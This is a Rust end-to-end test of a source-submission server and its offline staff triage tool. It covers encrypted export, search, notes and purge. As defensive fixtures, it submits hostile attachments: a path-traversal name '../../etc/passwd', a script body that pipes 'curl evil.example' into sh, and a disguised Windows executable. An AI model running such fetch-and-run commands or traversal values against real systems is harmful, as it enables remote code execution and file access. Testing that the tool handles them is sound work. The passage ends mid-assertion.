//! The whole path of a submission, end to end, through the real binaries only: a source's
//! browser posts the form to a real `sealdrop serve` over real HTTP; the operator runs
//! `sealdrop fingerprint` and `sealdrop export`; staff run `sealdesk keygen` (passphrase-
//! protected), `init`, `import`, `list`, `show`, `search`, `extract`, `tag`, `status`, `note`,
//! `report` and `ack`; the operator runs `sealdrop purge --ack`, and the server holds none of
//! what staff acknowledged, while what came after the export is kept and exported next.
//!
//! Ground truth never comes from `sealdesk` itself: each submission's id is read from the
//! server's index right after its POST, note ciphertexts are opened with the staff key unlocked
//! through the age crate, and bundles' manifests are read byte by byte per docs/BUNDLE-FORMAT.md.

mod common;

use std::collections::{BTreeMap, BTreeSet};
use std::io::{BufReader, Read, Write};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use age::secrecy::SecretString;
use common::{files_under, find, random_bytes, Multipart, Setup};

const PASSPHRASE: &str = "lantern orbit cactus velvet harbor mint";

// What the sources write. Search words appear here in one letter case and are searched for in
// another.
const RU_1: &str =
    "Брат задержан полицией 3 марта.\nГород: МОСКВА, район Сокол. Просим найти адвоката.";
const RU_1_CONTACT: &str = "Signal +7 900 000-00-00, спросить Ольгу";
const TJ_2: &str = "Ман ҳақиқатро мегӯям: бародарамро ба Душанбе бурданд.\nҶавоб диҳед.";
const RU_3: &str = "Сына увезли из Казани. Нужен АДВОКАТ по экстрадиции.";
const TJ_4: &str = "Падарамро дар ДУШАНБЕ нигоҳ медоранд. Ғамхорӣ лозим.";
const RU_LATE: &str = "Ещё один человек пропал в Самаре, уже после выгрузки.";

/// One submission as the source's browser sends it.
struct Sent {
    message: &'static str,
    contact: &'static str,
    /// (file name as the browser sends it, declared type, bytes)
    files: Vec<(&'static str, &'static str, Vec<u8>)>,
}

impl Sent {
    /// The multipart body a browser builds from the form: fields in document order, the
    /// contact sent even when empty, and one empty file part when no file was chosen.
    fn form(&self) -> Multipart {
        let mut form = Multipart::new()
            .text("message", self.message)
            .text("contact", self.contact);
        if self.files.is_empty() {
            form = form.file("files", "", "application/octet-stream", b"");
        }
        for (name, content_type, bytes) in &self.files {
            form = form.file("files", name, content_type, bytes);
        }
        form
    }
}

/// The staff's offline machine: its own temp folder (HOME and working directory of every
/// `sealdesk` run), a passphrase-protected key, the group's keys file and a workspace.
struct Desk {
    root: tempfile::TempDir,
    identity: PathBuf,
    ws: PathBuf,
}

impl Desk {
    fn new() -> Desk {
        let root = tempfile::Builder::new()
            .prefix("sealdesk-test-")
            .tempdir()
            .unwrap();
        Desk {
            identity: root.path().join("staff-identity.age"),
            ws: root.path().join("sealdesk-workspace"),
            root,
        }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.root.path().join(name)
    }

    /// `sealdesk ARGS` with a clean environment: the passphrase comes from SEALDESK_PASSPHRASE
    /// (the scripted way the staff guide documents), never from a terminal.
    fn run(&self, args: &[&str], stdin: Option<&str>) -> Output {
        let mut cmd = Command::new(common::sealdesk_bin());
        cmd.args(args)
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("HOME", self.root.path())
            .env("TMPDIR", self.root.path())
            .env("SEALDESK_WORKSPACE", &self.ws)
            .env("SEALDESK_PASSPHRASE", PASSPHRASE)
            .env("COLUMNS", "200")
            .current_dir(self.root.path())
            .stdin(if stdin.is_some() {
                Stdio::piped()
            } else {
                Stdio::null()
            })
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        let mut child = cmd.spawn().expect("running the sealdesk binary");
        if let Some(text) = stdin {
            let mut pipe = child.stdin.take().unwrap();
            pipe.write_all(text.as_bytes()).unwrap();
        }
        child.wait_with_output().unwrap()
    }

    /// Run, require success, return stdout.
    fn ok(&self, args: &[&str]) -> String {
        self.ok_with_stdin(args, None)
    }

    fn ok_with_stdin(&self, args: &[&str], stdin: Option<&str>) -> String {
        let out = self.run(args, stdin);
        assert!(
            out.status.success(),
            "`sealdesk {}` failed:\nstdout:\n{}\nstderr:\n{}",
            args.join(" "),
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8(out.stdout).expect("sealdesk prints UTF-8")
    }
}

/// Run `sealdrop ARGS` with the server's own config and environment; require success.
fn sealdrop_ok(setup: &Setup, args: &[&str]) -> String {
    let ran = setup.run(args);
    assert!(
        ran.status.success(),
        "`sealdrop {}` failed:\nstdout:\n{}\nstderr:\n{}",
        args.join(" "),
        ran.stdout,
        ran.stderr
    );
    ran.stdout
}

/// POST one submission through the intake and return the id the server gave it, read from the
/// server's index (the one row that appeared).
fn submit(setup: &Setup, server: &common::Server<'_>, sent: &Sent) -> String {
    let before: BTreeSet<String> = setup.submissions().into_iter().map(|r| r.id).collect();
    server.post("/submit", &sent.form()).assert_received();
    let after: BTreeSet<String> = setup.submissions().into_iter().map(|r| r.id).collect();
    let new: Vec<&String> = after.difference(&before).collect();
    assert_eq!(new.len(), 1, "one new row per submission: {new:?}");
    assert!(before.is_subset(&after), "a submission disappeared");
    new[0].clone()
}

fn short(id: &str) -> &str {
    &id[..8]
}

/// A bundle's signed manifest, read by hand from the layout in docs/BUNDLE-FORMAT.md (magic,
/// version, manifest length, manifest JSON).
fn manifest(bundle: &Path) -> serde_json::Value {
    let bytes = std::fs::read(bundle).unwrap();
    assert!(bytes.starts_with(b"sealdrop-bundle\n"), "bundle magic");
    assert_eq!(&bytes[16..20], &1u32.to_be_bytes(), "bundle version 1");
    let len = u32::from_be_bytes(bytes[20..24].try_into().unwrap()) as usize;
    let manifest: serde_json::Value = serde_json::from_slice(&bytes[24..24 + len]).unwrap();
    assert_eq!(manifest["format"], "sealdrop-bundle");
    manifest
}

/// The submission ids a bundle carries, in bundle order.
fn manifest_ids(bundle: &Path) -> Vec<String> {
    manifest(bundle)["submissions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["id"].as_str().unwrap().to_owned())
        .collect()
}

/// The bundle id from an export's summary line: the word after "bundle".
fn bundle_id_of(summary: &str) -> String {
    let mut words = summary.split_whitespace();
    words.find(|w| *w == "bundle").expect("a bundle id");
    words.next().unwrap().trim_end_matches(':').to_owned()
}

/// One row of `sealdesk list`.
#[derive(Debug, Clone)]
struct Row {
    unread: bool,
    short: String,
    arrived: String,
    status: String,
    attachments: usize,
    tags: String,
    message: String,
}

/// Parse `sealdesk list`: a header, one row per report, and a count line.
fn parse_list(out: &str) -> (Vec<Row>, String) {
    let lines: Vec<&str> = out.lines().collect();
    assert!(
        lines[0].contains("ID") && lines[0].ends_with("MESSAGE"),
        "a header line: {out}"
    );
    let rows = lines[1..lines.len() - 1]
        .iter()
        .map(|line| {
            let unread = match line.chars().next() {
                Some('*') => true,
                Some(' ') => false,
                _ => panic!("a row starts with `*` or a space: {line:?}"),
            };
            let mut cols = line[1..].split_whitespace();
            let mut next = || cols.next().unwrap().to_owned();
            let (short, arrived, status, att, tags) = (next(), next(), next(), next(), next());
            // The columns before MESSAGE take 62 characters.
            let message = line.chars().skip(62).collect::<String>();
            Row {
                unread,
                short,
                arrived,
                status,
                attachments: att.parse().unwrap(),
                tags,
                message,
            }
        })
        .collect();
    (rows, lines[lines.len() - 1].to_owned())
}

/// Parse `sealdesk search`: for each matching report (short id), its hit lines.
fn parse_search(out: &str) -> (BTreeMap<String, Vec<String>>, String) {
    let mut found: BTreeMap<String, Vec<String>> = BTreeMap::new();
    let mut current = None;
    let mut summary = String::new();
    for line in out.lines() {
        if let Some(hit) = line.strip_prefix("    ") {
            let id: &String = current.as_ref().expect("a hit under a report line");
            found.get_mut(id).unwrap().push(hit.to_owned());
        } else if line.starts_with("Searched ") {
            summary = line.to_owned();
        } else {
            let id = line[2..10].to_owned();
            found.insert(id.clone(), Vec::new());
            current = Some(id);
        }
    }
    (found, summary)
}

fn shorts(ids: &[&String]) -> BTreeSet<String> {
    ids.iter().map(|id| short(id).to_owned()).collect()
}

/// `sealdesk extract`'s report: each written name with the lines under it.
fn parse_extract(out: &str, folder: &Path) -> BTreeMap<String, Vec<String>> {
    let lines: Vec<&str> = out.lines().collect();
    assert!(
        lines[0].starts_with("Saved ") && lines[0].ends_with("into the new folder"),
        "{out}"
    );
    assert_eq!(lines[1], format!("  {}", folder.display()), "{out}");
    let mut files: BTreeMap<String, Vec<String>> = BTreeMap::new();
    let mut current = None;
    for line in &lines[2..] {
        if let Some(detail) = line.strip_prefix("      ") {
            let name: &String = current.as_ref().expect("details under a file line");
            files.get_mut(name).unwrap().push(detail.to_owned());
        } else if let Some(file) = line.strip_prefix("  ") {
            let name = file[..file.rfind("  (").expect("name  (size, type)")].to_owned();
            files.insert(name.clone(), Vec::new());
            current = Some(name);
        } else {
            current = None;
        }
    }
    files
}

/// The staff identity inside the passphrase-protected key file, unlocked with the age crate
/// (not with Sealdrop's code), and its public key.
fn unlock_identity(path: &Path) -> age::x25519::Identity {
    let file = std::fs::File::open(path).unwrap();
    let decryptor = age::Decryptor::new(age::armor::ArmoredReader::new(BufReader::new(file)))
        .expect("the key file is an age file");
    let passphrase = age::scrypt::Identity::new(SecretString::from(PASSPHRASE.to_owned()));
    let mut text = String::new();
    decryptor
        .decrypt(std::iter::once(&passphrase as &dyn age::Identity))
        .expect("the passphrase opens the key file")
        .read_to_string(&mut text)
        .unwrap();
    let line = text
        .lines()
        .find(|l| l.starts_with("AGE-SECRET-KEY-"))
        .expect("an identity line inside");
    line.parse().expect("a valid age identity")
}

fn decrypt_to_string(identity: &age::x25519::Identity, ciphertext: &[u8]) -> String {
    let mut plain = String::new();
    age::Decryptor::new(ciphertext)
        .expect("an age file")
        .decrypt(std::iter::once(identity as &dyn age::Identity))
        .expect("sealed to this identity")
        .read_to_string(&mut plain)
        .unwrap();
    plain
}

/// Does any file under `dir` contain `needle`?
fn anywhere_under(dir: &Path, needle: &[u8]) -> Option<PathBuf> {
    files_under(dir)
        .into_iter()
        .find(|f| find(&std::fs::read(f).unwrap(), needle).is_some())
}

#[test]
fn from_the_browser_to_the_desk_and_back_to_purge() {
    // ---- 1. A staff key (passphrase-protected, as staff have it) and the server ----------
    let desk = Desk::new();
    let out = desk.ok(&["keygen", "--out", desk.identity.to_str().unwrap()]);
    let recipient = out.trim().to_owned();
    assert!(
        recipient.starts_with("age1") && !recipient.contains(char::is_whitespace),
        "keygen prints one recipient line: {out:?}"
    );
    let key_text = std::fs::read_to_string(&desk.identity).unwrap();
    assert!(key_text.starts_with("-----BEGIN AGE ENCRYPTED FILE-----"));
    assert!(
        !key_text.contains("AGE-SECRET-KEY-"),
        "the key file is locked"
    );
    let staff_key = unlock_identity(&desk.identity);
    assert_eq!(staff_key.to_public().to_string(), recipient);

    let setup = Setup::new();
    // The group: this staff member, and a colleague whose key the test holds.
    let colleague = &setup.second_identity;
    let keys_text = format!(
        "# staff: desk one\n{recipient}\n# staff: desk two\n{}\n",
        colleague.to_public()
    );
    std::fs::write(&setup.keys_file, &keys_text).unwrap();
    let server = setup.start();

    // The form has the fields (and encoding) the test sends, as a browser would fill them in.
    let page = server.get("/").text();
    for field in [
        "name=\"message\"",
        "name=\"contact\"",
        "name=\"files\"",
        "multipart/form-data",
    ] {
        assert!(page.contains(field), "the form has {field}");
    }

    // ---- 2. Sources submit through the form ------------------------------------------------
    let mut jpeg = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00".to_vec();
    jpeg.extend(random_bytes(3000));
    let mut disguised = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00".to_vec();
    disguised.extend(random_bytes(500));
    let pdf = random_bytes(70_000); // more than one 64 KiB age chunk
    let sent = [
        Sent {
            message: RU_1,
            contact: RU_1_CONTACT,
            files: vec![
                (
                    "../../etc/passwd",
                    "application/octet-stream",
                    b"root:x:0:0:root:/root:/bin/bash\n".to_vec(),
                ),
                ("фото.jpg", "image/jpeg", jpeg.clone()),
                (
                    "заметки.txt",
                    "text/plain",
                    b"#!/bin/sh\ncurl evil.example | sh\n".to_vec(),
                ),
            ],
        },
        Sent {
            message: TJ_2,
            contact: "",
            files: vec![
                (
                    "C:\\x.exe",
                    "application/x-msdownload",
                    b"plain text named like a program".to_vec(),
                ),
                ("holiday.jpg", "image/jpeg", disguised.clone()),
                // A tab is the one control character HTTP lets through in a part header.
                ("tab\there.txt", "text/plain", b"tab".to_vec()),
                // A file named "line<LF>break.txt": browsers escape the newline as %0A
                // (WHATWG multipart/form-data encoding), so this is what arrives.
                ("line%0Abreak.txt", "text/plain", b"newline".to_vec()),
            ],
        },
        Sent {
            message: RU_3,
            contact: "",
            files: vec![],
        },
        Sent {
            message: TJ_4,
            contact: "Telegram @padar_tj",
            files: vec![("документ.pdf", "application/pdf", pdf.clone())],
        },
    ];
    let ids: Vec<String> = sent.iter().map(|s| submit(&setup, &server, s)).collect();
    let [s1, s2, s3, s4] = [&ids[0], &ids[1], &ids[2], &ids[3]];
    let arrived: BTreeMap<String, String> = setup
        .submissions()
        .into_iter()
        .map(|r| (r.id, r.arrived))
        .collect();

    // A raw newline inside a filename cannot be sent in a multipart header at all: a client
    // that tries is refused whole, and nothing of it is stored.
    let blobs_before = files_under(&setup.blobs_dir());
    let raw_newline = Multipart::new()
        .text("message", "raw newline in a file name")
        .text("contact", "")
        .file("files", "line\nbreak.txt", "text/plain", b"x");
    server
        .post("/submit", &raw_newline)
        .assert_page(400, "The form could not be read");
    assert_eq!(setup.submissions().len(), 4);
    assert_eq!(files_under(&setup.blobs_dir()), blobs_before);

    // ---- 3. Fingerprint, init, export, import ----------------------------------------------
    let fingerprint = sealdrop_ok(&setup, &["fingerprint"]).trim().to_owned();
    assert_eq!(
        fingerprint.split(' ').count(),
        16,
        "64 hex digits in 16 groups: {fingerprint}"
    );
    let recipients = desk.path("recipients.txt");
    std::fs::write(&recipients, &keys_text).unwrap(); // the operator's copy of keys/recipients.txt
    let out = desk.ok(&[
        "init",
        "--identity",
        desk.identity.to_str().unwrap(),
        "--recipients",
        recipients.to_str().unwrap(),
        "--server-key",
        &fingerprint,
    ]);
    assert!(
        out.contains(&format!("Server fingerprint: {fingerprint}")),
        "{out}"
    );
    assert!(out.contains("Notes are locked to 2 group key(s)."), "{out}");

    let usb = desk.path("usb");
    std::fs::create_dir(&usb).unwrap();
    let b1 = usb.join("export-1.sdb");
    let summary = sealdrop_ok(&setup, &["export", "--out", b1.to_str().unwrap()]);
    // 4 envelopes and 3 + 4 + 0 + 1 attachments.
    assert!(
        summary.starts_with("Exported bundle") && summary.contains("4 submission(s), 12 blob(s)"),
        "{summary}"
    );
    let b1_id = bundle_id_of(&summary);
    assert_eq!(
        manifest_ids(&b1).into_iter().collect::<BTreeSet<_>>(),
        ids.iter().cloned().collect()
    );
    // The bundle carries ciphertext only.
    let bundle_bytes = std::fs::read(&b1).unwrap();
    for clear in ["МОСКВА", "ҳақиқат", "Ольгу", "passwd", "holiday", "фото"] {
        assert!(
            find(&bundle_bytes, clear.as_bytes()).is_none(),
            "{clear} in clear in the bundle"
        );
    }

    let created = manifest(&b1)["created"].as_str().unwrap().to_owned();
    let out = desk.ok(&["import", b1.to_str().unwrap()]);
    assert!(
        out.starts_with(&format!(
            "Imported bundle {} (exported {created}): 4 new report(s), 0 already here",
            short(&b1_id)
        )),
        "{out}"
    );
    let out = desk.ok(&["import", b1.to_str().unwrap()]);
    assert!(
        out.starts_with("Nothing new: all 4 report(s) in bundle"),
        "{out}"
    );

    // A second export right away carries nothing, and imports as nothing new.
    let b2 = usb.join("export-2.sdb");
    let summary = sealdrop_ok(&setup, &["export", "--out", b2.to_str().unwrap()]);
    assert!(summary.starts_with("Nothing to export"), "{summary}");
    assert!(manifest_ids(&b2).is_empty());
    let out = desk.ok(&["import", b2.to_str().unwrap()]);
    assert!(
        out.starts_with("Nothing new: all 0 report(s) in bundle"),
        "{out}"
    );

    // ---- 4. Triage -------------------------------------------------------------------------
    // list: every report, all unread, with attachment counts and first lines.
    let (rows, count) = parse_list(&desk.ok(&["list"]));
    assert_eq!(count, "4 report(s), 4 unread (*).");
    assert_eq!(
        rows.iter()
            .map(|r| r.short.clone())
            .collect::<BTreeSet<_>>(),
        shorts(&[s1, s2, s3, s4])
    );
    let row = |rows: &[Row], id: &str| -> Row {
        rows.iter()
            .find(|r| r.short == short(id))
            .unwrap_or_else(|| panic!("{id} listed: {rows:?}"))
            .clone()
    };
    for (id, s) in ids.iter().zip(&sent) {
        let r = row(&rows, id);
        assert!(r.unread, "{r:?}");
        assert_eq!(r.arrived, arrived[id]);
        assert_eq!(r.status, "new");
        assert_eq!(r.tags, "-");
        assert_eq!(r.attachments, s.files.len(), "{r:?}");
        assert_eq!(
            r.message,
            s.message.lines().next().unwrap(),
            "first line only"
        );
    }

    // show: the whole message, the contact, the attachments as the sender named them.
    let out = desk.ok(&["show", short(s1)]);
    assert!(out.starts_with(&format!("Submission  {s1}\n")), "{out}");
    assert!(out.contains("(first time opened)"), "{out}");
    assert!(
        out.contains(&format!("MESSAGE\n-------\n{RU_1}\n")),
        "{out}"
    );
    assert!(
        out.contains(&format!("CONTACT\n-------\n{RU_1_CONTACT}\n")),
        "{out}"
    );
    assert!(out.contains("ATTACHMENTS (3)"), "{out}");
    for line in [
        "  1. ../../etc/passwd\n     type application/octet-stream (as the sender's browser said), 32 bytes",
        "  2. фото.jpg\n     type image/jpeg (as the sender's browser said), 3.0 KB",
        "  3. заметки.txt\n     type text/plain",
    ] {
        assert!(out.contains(line), "{line:?} in:\n{out}");
    }
    let out = desk.ok(&["show", short(s2)]);
    assert!(
        out.contains(&format!("MESSAGE\n-------\n{TJ_2}\n")),
        "{out}"
    );
    assert!(!out.contains("CONTACT"), "no contact was given: {out}");
    assert!(out.contains("ATTACHMENTS (4)"), "{out}");
    // Names are shown as sent, made safe for the terminal (the tab becomes a space).
    for name in [
        "  1. C:\\x.exe\n",
        "  2. holiday.jpg\n",
        "  3. tab here.txt\n",
        "  4. line%0Abreak.txt\n",
    ] {
        assert!(out.contains(name), "{name:?} in:\n{out}");
    }
    assert!(
        out.contains("WARNING: may be a program or script: its name ends in .exe"),
        "{out}"
    );
    assert!(!out.contains('\t'), "no raw control characters: {out:?}");
    let out = desk.ok(&["show", short(s3)]);
    assert!(
        out.contains(&format!("MESSAGE\n-------\n{RU_3}\n")),
        "{out}"
    );
    assert!(
        out.contains("ATTACHMENTS (0)\n---------------\n(none)"),
        "{out}"
    );
    let (rows, count) = parse_list(&desk.ok(&["list"]));
    assert_eq!(count, "4 report(s), 1 unread (*).");
    assert!(!row(&rows, s1).unread && !row(&rows, s3).unread && row(&rows, s4).unread);

    // search: Russian and Tajik, in another letter case than the source typed.
    let (found, summary) = parse_search(&desk.ok(&["search", "москва"]));
    assert_eq!(summary, "Searched 4 report(s): 1 match.");
    assert_eq!(
        found.keys().cloned().collect::<BTreeSet<_>>(),
        shorts(&[s1])
    );
    let hits = &found[short(s1)];
    assert_eq!(hits.len(), 1, "{hits:?}");
    assert!(
        hits[0].starts_with("message: ") && hits[0].contains("марта. Город: [МОСКВА], район Сокол"),
        "a snippet around the hit: {hits:?}"
    );

    let (found, summary) = parse_search(&desk.ok(&["search", "Адвокат"]));
    assert_eq!(summary, "Searched 4 report(s): 2 match.");
    assert_eq!(
        found.keys().cloned().collect::<BTreeSet<_>>(),
        shorts(&[s1, s3])
    );
    assert!(found[short(s1)][0].contains("Просим найти [адвокат]а."));
    assert!(found[short(s3)][0].contains("Нужен [АДВОКАТ] по экстрадиции."));

    let (found, summary) = parse_search(&desk.ok(&["search", "ҲАҚИҚАТРО"]));
    assert_eq!(summary, "Searched 4 report(s): 1 match.");
    assert_eq!(
        found.keys().cloned().collect::<BTreeSet<_>>(),
        shorts(&[s2])
    );
    assert!(
        found[short(s2)][0].contains("Ман [ҳақиқатро] мегӯям"),
        "{found:?}"
    );

    let (found, summary) = parse_search(&desk.ok(&["search", "душанбе"]));
    assert_eq!(summary, "Searched 4 report(s): 2 match.");
    assert_eq!(
        found.keys().cloned().collect::<BTreeSet<_>>(),
        shorts(&[s2, s4])
    );
    assert!(found[short(s2)][0].contains("ба [Душанбе] бурданд"));
    assert!(found[short(s4)][0].contains("дар [ДУШАНБЕ] нигоҳ"));

    // extract: byte-identical files in a fresh folder, hostile names made plain, programs and
    // scripts flagged, and nothing written anywhere else.
    let cases = desk.path("cases");
    let before_extract: BTreeSet<PathBuf> = files_under(desk.root.path())
        .into_iter()
        .filter(|p| !p.starts_with(&desk.ws))
        .collect();
    let mut extracted = BTreeSet::new();
    for (id, expect, flagged) in [
        (
            s1,
            vec![
                ("etc_passwd", sent[0].files[0].2.clone()),
                ("фото.jpg", jpeg.clone()),
                ("заметки.txt", sent[0].files[2].2.clone()),
            ],
            vec![("заметки.txt", "its content is a script (it starts with #!)")],
        ),
        (
            s2,
            vec![
                ("C__x.exe", sent[1].files[0].2.clone()),
                ("holiday.jpg.disguised", disguised.clone()),
                ("tab_here.txt", b"tab".to_vec()),
                ("line%0Abreak.txt", b"newline".to_vec()),
            ],
            vec![
                ("C__x.exe", "its name ends in .exe: a Windows program"),
                (
                    "holiday.jpg.disguised",
                    "its content is a Windows program (MZ/PE)",
                ),
            ],
        ),
    ] {
        let folder = cases.join(format!("sealdrop-{}-{}", arrived[id], short(id)));
        assert!(!folder.exists());
        let out = desk.ok(&["extract", short(id), "--to", cases.to_str().unwrap()]);
        let listed = parse_extract(&out, &folder);
        let mut on_disk = BTreeMap::new();
        for entry in std::fs::read_dir(&folder).unwrap() {
            let entry = entry.unwrap();
            assert!(entry.file_type().unwrap().is_file(), "only plain files");
            let name = entry.file_name().into_string().unwrap();
            on_disk.insert(name, std::fs::read(entry.path()).unwrap());
        }
        let want: BTreeMap<String, Vec<u8>> = expect
            .iter()
            .map(|(n, b)| (n.to_string(), b.clone()))
            .collect();
        assert_eq!(
            on_disk.keys().collect::<Vec<_>>(),
            want.keys().collect::<Vec<_>>()
        );
        for (name, bytes) in &want {
            assert!(on_disk[name] == *bytes, "{name} is not byte-identical");
            extracted.insert(folder.join(name));
        }
        assert_eq!(
            listed.keys().collect::<BTreeSet<_>>(),
            want.keys().collect::<BTreeSet<_>>()
        );
        for (name, details) in &listed {
            let warning = details.iter().find(|d| d.starts_with("WARNING:"));
            match flagged.iter().find(|(n, _)| n == name) {
                Some((_, why)) => assert_eq!(
                    warning.map(String::as_str),
                    Some(format!("WARNING: this may be a program or script ({why}).").as_str()),
                    "{name}: {out}"
                ),
                None => assert!(warning.is_none(), "{name} flagged: {out}"),
            }
        }
        assert!(
            out.contains(&format!(
                "WARNING: {} file(s) above may run code when opened.",
                flagged.len()
            )),
            "{out}"
        );
        // The renamed ones say what the sender called them.
        if id == s1 {
            assert_eq!(
                listed["etc_passwd"],
                ["the sender's name for it was: \"../../etc/passwd\""]
            );
        }
    }
    // Exactly the two new folders' files are new outside the workspace.
    let after_extract: BTreeSet<PathBuf> = files_under(desk.root.path())
        .into_iter()
        .filter(|p| !p.starts_with(&desk.ws))
        .collect();
    assert_eq!(
        after_extract
            .difference(&before_extract)
            .cloned()
            .collect::<BTreeSet<_>>(),
        extracted
    );
    assert_eq!(std::fs::read_dir(&cases).unwrap().count(), 2);

    // tag, untag, status.
    let out = desk.ok(&["tag", short(s1), "Moscow", "urgent", "lawyer"]);
    assert!(
        out.contains("Its tags now: lawyer, moscow, urgent."),
        "{out}"
    );
    let out = desk.ok(&["untag", short(s1), "LAWYER"]);
    assert!(out.contains("Its tags now: moscow, urgent."), "{out}");
    let out = desk.ok(&["tag", short(s2), "dushanbe"]);
    assert!(out.contains("Its tags now: dushanbe."), "{out}");
    for (id, status) in [(s1, "verified"), (s2, "follow-up"), (s3, "in-review")] {
        let out = desk.ok(&["status", short(id), status]);
        assert_eq!(
            out.trim(),
            format!("Report {}: status new -> {status}.", short(id))
        );
    }

    // note: typed at the prompt (kept out of shell history) and on the command line.
    let note_1 = "Позвонили семье; слушание в понедельник.\nВторая строка заметки.";
    let note_2 = "Ҷавоб аз оила гирифтем: confirmed by a neighbour.";
    let out = desk.ok_with_stdin(&["note", short(s1)], Some(&format!("{note_1}\n")));
    assert!(out.contains("locked to 2 group key(s)"), "{out}");
    desk.ok(&["note", short(s2), note_2]);
    {
        let db = rusqlite::Connection::open_with_flags(
            desk.ws.join("sealdesk.sqlite"),
            rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY,
        )
        .unwrap();
        let mut stmt = db
            .prepare("SELECT submission_id, ciphertext FROM notes ORDER BY id")
            .unwrap();
        let notes: Vec<(String, Vec<u8>)> = stmt
            .query_map([], |r| Ok((r.get(0)?, r.get(1)?)))
            .unwrap()
            .map(Result::unwrap)
            .collect();
        assert_eq!(notes.len(), 2);
        assert_eq!(notes[0].0, *s1);
        assert_eq!(notes[1].0, *s2);
        // Opened with the staff key (unlocked by the age crate from the passphrase) and with the
        // colleague's: notes are sealed to the group.
        // A note is a short header (format line, author, time), a blank line, then the text.
        let body = |plain: String| {
            assert!(plain.starts_with("sealdesk-note 2\nauthor: "), "{plain}");
            plain.split_once("\n\n").unwrap().1.to_owned()
        };
        assert_eq!(body(decrypt_to_string(&staff_key, &notes[0].1)), note_1);
        assert_eq!(body(decrypt_to_string(&staff_key, &notes[1].1)), note_2);
        assert_eq!(body(decrypt_to_string(colleague, &notes[0].1)), note_1);
    }
    // Nothing of the notes, messages, contacts or file names is in clear in the workspace.
    for clear in [
        "слушание в понедельник",
        "confirmed by a neighbour",
        "задержан",
        "ҳақиқатро",
        "Ольгу",
        "padar_tj",
        "etc/passwd",
        "holiday.jpg",
    ] {
        assert_eq!(
            anywhere_under(&desk.ws, clear.as_bytes()),
            None,
            "{clear} in clear in the workspace"
        );
    }
    let out = desk.ok(&["show", short(s1)]);
    assert!(
        out.contains("Status      verified") && out.contains("Tags        moscow, urgent"),
        "{out}"
    );
    assert!(
        out.contains("NOTES (1)") && out.contains("слушание в понедельник."),
        "{out}"
    );

    // report --format json: parses, and says what triage did.
    let json = desk.ok(&["report", "--format", "json"]);
    let report: serde_json::Value = serde_json::from_str(&json).expect("the report is JSON");
    let report = report.as_array().expect("a list of reports");
    assert_eq!(report.len(), 4);
    let want = [
        (s1, RU_1, "verified", vec!["moscow", "urgent"], vec![note_1]),
        (s2, TJ_2, "follow-up", vec!["dushanbe"], vec![note_2]),
        (s3, RU_3, "in-review", vec![], vec![]),
        (s4, TJ_4, "new", vec![], vec![]),
    ];
    for (id, message, status, tags, notes) in want {
        let r = report
            .iter()
            .find(|r| r["id"] == id.as_str())
            .unwrap_or_else(|| panic!("{id} in the report"));
        assert_eq!(r["day"], arrived[id].as_str());
        assert_eq!(r["message"], message);
        assert_eq!(r["status"], status);
        assert_eq!(r["tags"], serde_json::json!(tags));
        let texts: Vec<&str> = r["notes"]
            .as_array()
            .unwrap()
            .iter()
            .map(|n| n["text"].as_str().unwrap())
            .collect();
        assert_eq!(texts, notes);
    }

    // ---- 5. A late submission, then ack and purge ----------------------------------------
    let late = submit(
        &setup,
        &server,
        &Sent {
            message: RU_LATE,
            contact: "",
            files: vec![(
                "доказательство.txt",
                "text/plain",
                b"late evidence".to_vec(),
            )],
        },
    );

    let ack = usb.join("ack-1.txt");
    let out = desk.ok(&["ack", "--out", ack.to_str().unwrap()]);
    assert!(out.contains("naming 4 report(s)"), "{out}");
    let ack_text = std::fs::read_to_string(&ack).unwrap();
    let mut ack_lines = ack_text.lines();
    assert_eq!(ack_lines.next(), Some("sealdrop-ack v1"));
    let acked: BTreeSet<String> = ack_lines
        .filter(|l| !l.starts_with('#'))
        .map(str::to_owned)
        .collect();
    assert_eq!(acked, ids.iter().cloned().collect());

    let server_blobs: BTreeMap<String, String> = setup
        .blob_rows()
        .into_iter()
        .map(|b| (b.id, b.submission_id))
        .collect();
    let purged_blobs: Vec<&String> = server_blobs
        .iter()
        .filter(|(_, sub)| acked.contains(*sub))
        .map(|(blob, _)| blob)
        .collect();
    assert_eq!(purged_blobs.len(), 12);
    let out = sealdrop_ok(&setup, &["purge", "--ack", ack.to_str().unwrap()]);
    assert!(
        out.starts_with("Purged 4 acknowledged submission(s) (12 blob file(s) deleted)."),
        "{out}"
    );
    // The server holds only the late submission, in its index and in blobs/.
    let rows = setup.submissions();
    assert_eq!(
        rows.iter().map(|r| r.id.clone()).collect::<Vec<_>>(),
        vec![late.clone()]
    );
    let blob_rows = setup.blob_rows();
    assert_eq!(blob_rows.len(), 2, "the late envelope and its attachment");
    assert!(blob_rows.iter().all(|b| b.submission_id == late));
    let on_disk: BTreeSet<PathBuf> = files_under(&setup.blobs_dir()).into_iter().collect();
    let want: BTreeSet<PathBuf> = blob_rows
        .iter()
        .map(|b| setup.blobs_dir().join(format!("{}.age", b.id)))
        .collect();
    assert_eq!(on_disk, want);
    for blob in &purged_blobs {
        assert!(!setup.blobs_dir().join(format!("{blob}.age")).exists());
    }
    // Not even in the database's pages or its log.
    for file in ["sealdrop.sqlite", "sealdrop.sqlite-wal"] {
        let Ok(bytes) = std::fs::read(setup.data_dir.join(file)) else {
            continue;
        };
        for id in acked.iter().chain(purged_blobs.iter().copied()) {
            assert!(find(&bytes, id.as_bytes()).is_none(), "{id} left in {file}");
        }
    }
    for (table, column, value) in setup.every_db_value() {
        if let rusqlite::types::Value::Text(text) = value {
            assert!(
                !acked.contains(&text) && !purged_blobs.contains(&&text),
                "{table}.{column} still names a purged submission or blob: {text}"
            );
        }
    }

    // Even an ack that names the late submission cannot purge it: it was never exported.
    let forged = usb.join("ack-forged.txt");
    std::fs::write(&forged, format!("sealdrop-ack v1\n{late}\n{s1}\n")).unwrap();
    let out = sealdrop_ok(&setup, &["purge", "--ack", forged.to_str().unwrap()]);
    assert!(
        out.starts_with("Purged 0 acknowledged submission(s)"),
        "{out}"
    );
    assert!(
        out.contains(&format!(
